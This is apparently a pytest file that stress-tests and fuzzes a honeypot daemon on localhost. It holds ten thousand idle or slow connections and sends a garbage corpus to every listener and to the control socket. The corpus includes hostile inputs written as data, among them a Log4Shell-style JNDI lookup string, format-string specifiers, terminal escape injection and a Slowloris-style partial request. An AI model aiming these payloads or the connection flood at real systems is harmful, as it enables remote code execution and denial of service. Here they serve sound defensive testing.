"""Peers at their worst: ten thousand that say nothing, slow ones, and garbage into every listener."""

import asyncio
import contextlib
import random
import resource
import socket
from pathlib import Path

import pytest

from tests.daemon import FLEET, decnetd

IDLE = 10_000
SOURCES = 8
LEAST_FILES = 12_000
GIVE_AWAYS = (b"decnet", b"python", b"aiohttp", b"asyncssh", b"traceback", b"honeypot", b"exception")
CORPUS = [
    b"",
    b"\x00" * 1024,
    b"\xff" * 200,
    b"A" * 70_000,
    b"\r\n" * 500,
    b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
    b"\x16\x03\x01\x00\xf4\x01\x00\x00\xf0\x03\x03" + b"R" * 200,
    b"SSH-2.0-x\r\n" + b"\x00\x00\x00\x0c\x0a\x14" + b"z" * 80,
    b"SSH-1.5-old\r\n",
    b"*1000000000\r\n$5\r\n",
    b"*3\r\n$-1\r\n",
    b"EHLO x\r\n",
    b"\x03\x00\x00\x13\x0e\xe0\x00\x00",
    b"\x1b[2J\x1b]0;owned\x07\r\n",
    b"%s%n%x" * 50 + b"\r\n",
    b"${jndi:ldap://198.51.100.1/a}\r\n",
    b"\xff\xfa\x18" + b"x" * 5000,
    b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n\r\n",
    b"\xe2\x80\xae\xf0\x9f\x92\xa9\r\n" * 20,
]


def resident(pid: int) -> int:
    """Return KiB of memory the process holds."""
    text = Path(f"/proc/{pid}/status").read_text()
    return int(next(line for line in text.splitlines() if line.startswith("VmRSS")).split()[1])


@pytest.fixture
def many_files():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY and hard < LEAST_FILES:
        pytest.skip(f"at most {hard} descriptors here, {LEAST_FILES} needed")
    resource.setrlimit(resource.RLIMIT_NOFILE, (LEAST_FILES, hard))
    yield
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


async def held(address: tuple[str, int], count: int, first: bytes) -> list[asyncio.StreamWriter]:
    gate = asyncio.Semaphore(200)

    async def one(index: int) -> asyncio.StreamWriter:
        async with gate, asyncio.timeout(60):
            reader, writer = await asyncio.open_connection(*address, local_addr=(f"127.0.0.{2 + index % SOURCES}", 0))
            if first:
                writer.write(first)
            else:
                await reader.read(1)
            return writer

    return list(await asyncio.gather(*(one(n) for n in range(count))))


def first_byte(address: tuple[str, int]) -> bytes:
    with socket.create_connection(address, 5) as client:
        client.settimeout(5)
        return client.recv(1)


def test_ten_thousand_idle_and_slow_peers_leave_room_for_others(many_files):
    async def scenario(daemon) -> None:
        listeners = daemon.listeners()
        before = resident(daemon.pid)
        idle = await held(listeners["db-01"]["telnet"], IDLE // 2, b"")
        slow = await held(listeners["web-01"]["http"], IDLE // 2, b"POST /login HTTP/1.1\r\nHost: x\r\nX-A: ")
        after = resident(daemon.pid)

        assert (after - before) / IDLE <= 25, f"{(after - before) / IDLE:.1f} KiB a connection"
        assert await asyncio.to_thread(first_byte, listeners["db-01"]["telnet"])
        assert await asyncio.to_thread(first_byte, listeners["web-01"]["ssh"])
        assert daemon.status()["sessions_active"] >= IDLE
        for writer in (*idle, *slow):
            writer.transport.abort()
        await asyncio.sleep(0.1)  # their ends are noticed, so that nothing is left to be collected

    with decnetd() as daemon:
        asyncio.run(scenario(daemon))
        assert daemon.status()["ready"]


async def throw(address: tuple[str, int], data: bytes) -> bytes:
    """Send garbage, half-close, and return what comes back within a moment."""
    received = b""
    with contextlib.suppress(OSError, TimeoutError):
        reader, writer = await asyncio.open_connection(*address)
        try:
            writer.write(data)
            writer.write_eof()
            async with asyncio.timeout(0.5):
                while chunk := await reader.read(65536):
                    received += chunk
        finally:
            writer.transport.abort()
    return received


def test_garbage_into_every_listener_crashes_nothing_and_shows_nothing():
    rng = random.Random(20)
    corpus = [*CORPUS, *(rng.randbytes(rng.randrange(1, 2000)) for _ in range(60))]

    async def scenario(addresses: list[tuple[str, int]]) -> list[tuple[bytes, bytes]]:
        gate = asyncio.Semaphore(40)

        async def one(address: tuple[str, int], data: bytes) -> tuple[bytes, bytes]:
            async with gate:
                return data, await throw(address, data)

        return list(await asyncio.gather(*(one(a, d) for a in addresses for d in corpus)))

    with decnetd() as daemon:
        addresses = [address for services in daemon.listeners().values() for address in services.values()]
        before = resident(daemon.pid)
        answers = asyncio.run(scenario(addresses))
        grown = resident(daemon.pid) - before

        for data, answer in answers:
            shown = [word for word in GIVE_AWAYS if word in answer.lower() and word not in data.lower()]
            assert not shown, (data[:80], answer[:200])
        assert not [row for row in daemon.events() if row["kind"] == "SessionCrashed"]
        assert not [row for row in daemon.ask("actor", "list") if row["restarts"]]
        assert daemon.status()["ready"]
        assert grown < 64 * 1024, f"{grown} KiB more after {len(answers)} connections"
        assert "Traceback" not in daemon.log()


def test_garbage_into_the_control_socket_crashes_nothing():
    import zmq

    rng = random.Random(21)
    with decnetd(FLEET) as daemon:
        context = zmq.Context()
        try:
            for _ in range(300):
                with context.socket(zmq.DEALER) as client:
                    client.linger = 100
                    client.connect(daemon.control)
                    client.send_multipart([rng.randbytes(rng.randrange(0, 300)) for _ in range(rng.randrange(1, 5))])
        finally:
            context.destroy(linger=100)
        raw = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        with raw:
            raw.connect(str(daemon.home / "run" / "control.sock"))
            raw.sendall(rng.randbytes(100_000))

        assert daemon.status()["ready"]
        assert not [row for row in daemon.ask("actor", "list") if row["restarts"]]
